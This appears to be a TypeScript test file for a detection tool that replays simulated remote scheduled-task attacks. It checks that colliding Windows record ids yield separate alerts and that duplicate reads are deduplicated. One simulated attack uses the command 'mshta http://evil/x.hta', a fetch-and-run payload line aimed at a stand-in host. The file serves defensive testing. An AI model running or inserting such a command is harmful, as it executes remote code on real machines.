// Alert identity end to end: distinct attacks whose Windows record ids collide (a cleared log restarts them;
// merged collections from several machines repeat them) are distinct alerts; only the same events read twice
// are deduplicated, and the hunt summary counts those.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { renderSimulation, simulate, type ScenarioOptions } from '../../src/simulate/index.js';
import { runCli } from '../helpers/cli.js';
import { skipWithoutEql } from '../rules/eql-ready.js';

const FLAGSHIP = 'Remote Scheduled Task Creation';

async function withDir(fn: (dir: string) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'seqhunt-dups-'));
  try {
    await fn(dir);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The scenario as event XML, its record ids restarted at 1000 per channel as after a cleared log. */
function writeAttack(file: string, options: ScenarioOptions): void {
  const t = simulate('schtasks-remote', options);
  const next = new Map<string, number>();
  for (const e of t.windows) {
    const id = next.get(e.system.channel) ?? 1000;
    e.system.recordId = id;
    next.set(e.system.channel, id + 1);
  }
  writeFileSync(file, renderSimulation(t, 'xml')[0]!.data);
}

async function huntAlerts(args: string[]): Promise<{ alerts: Array<Record<string, any>>; stderr: string }> {
  const r = await runCli(['hunt', '--format', 'ndjson', ...args]);
  assert.equal(r.code, 0, r.stderr);
  return { alerts: r.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l)), stderr: r.stderr };
}

const flagship = (alerts: Array<Record<string, any>>) => alerts.filter((a) => a['kibana.alert.rule.name'] === FLAGSHIP);

test('a second, distinct attack on the same host with the same record ids is its own alert', { skip: skipWithoutEql }, async () => {
  await withDir(async (dir) => {
    writeAttack(join(dir, 'a.xml'), {});
    writeAttack(join(dir, 'b.xml'), { seed: 2, time: '2026-01-20T10:00:00Z', command: 'mshta http://evil/x.hta' });
    const { alerts, stderr } = await huntAlerts([join(dir, 'a.xml'), join(dir, 'b.xml')]);
    const f = flagship(alerts);
    assert.equal(f.length, 2, stderr);
    assert.deepEqual(f.map((a) => a['seqhunt.task'].command).sort(), ['cmd.exe', 'mshta']);
    assert.equal(new Set(alerts.map((a) => a['kibana.alert.uuid'])).size, alerts.length);
    assert.equal(alerts.length, 4, 'the Security-log companion fires on each attack too');
    assert.doesNotMatch(stderr, /duplicate/);
  });
});

test('two tasks from two sources in the same minute are two alerts, each with its own task and source', { skip: skipWithoutEql }, async () => {
  await withDir(async (dir) => {
    writeAttack(join(dir, 'a.xml'), {});
    writeAttack(join(dir, 'b.xml'), { time: '2026-01-15T10:00:20Z', sourceIp: '10.20.30.16', task: '\\TaskB' });
    const { alerts, stderr } = await huntAlerts([join(dir, 'a.xml'), join(dir, 'b.xml')]);
    const f = flagship(alerts).map((a) => `${a['source.ip']} ${a['seqhunt.task'].name}`);
    assert.deepEqual(f.sort(), ['10.20.30.15 \\RemoteTaskTest', '10.20.30.16 \\TaskB'], stderr);
    assert.doesNotMatch(stderr, /duplicate/);
  });
});

test('the same events read twice are one alert, and the dropped duplicates are counted in the summary', { skip: skipWithoutEql }, async () => {
  await withDir(async (dir) => {
    writeAttack(join(dir, 'a.xml'), {});
    copyFileSync(join(dir, 'a.xml'), join(dir, 'copy.xml'));
    const once = await huntAlerts([join(dir, 'a.xml')]);
    const twice = await huntAlerts([join(dir, 'a.xml'), join(dir, 'copy.xml')]);
    assert.deepEqual(twice.alerts.map((a) => a['kibana.alert.uuid']).sort(), once.alerts.map((a) => a['kibana.alert.uuid']).sort());
    // A single-event rule matches each copy: the second match is the duplicate the summary reports.
    const rule = join(dir, 'actions.toml');
    writeFileSync(
      rule,
      '[rule]\nrule_id = "test-actions-write"\nname = "Actions write"\ndescription = "d"\ntype = "eql"\nlanguage = "eql"\nrisk_score = 21\nseverity = "low"\n' +
        'query = \'\'\'registry where registry.value : "Actions"\'\'\'\n',
    );
    const single = await huntAlerts(['--no-builtin', '--rules', rule, join(dir, 'a.xml'), join(dir, 'copy.xml')]);
    assert.equal(single.alerts.length, 1, single.stderr);
    assert.match(single.stderr, /^ {2}1 duplicate match dropped \(the same events read twice\)$/m);
    assert.doesNotMatch(once.stderr, /duplicate/);
    // The same records as EVTX and as Winlogbeat JSON are the same events too.
    const t = simulate('schtasks-remote');
    writeFileSync(join(dir, 'a.evtx'), renderSimulation(t, 'evtx')[0]!.data);
    writeFileSync(join(dir, 'a.ndjson'), renderSimulation(t, 'winlogbeat')[0]!.data);
    writeFileSync(join(dir, 'b.xml'), renderSimulation(t, 'xml')[0]!.data);
    const shapes = await huntAlerts(['--no-builtin', '--rules', rule, join(dir, 'b.xml'), join(dir, 'a.evtx'), join(dir, 'a.ndjson')]);
    assert.equal(shapes.alerts.length, 1, shapes.stderr);
    assert.match(shapes.stderr, /^ {2}2 duplicate matches dropped/m);
  });
});
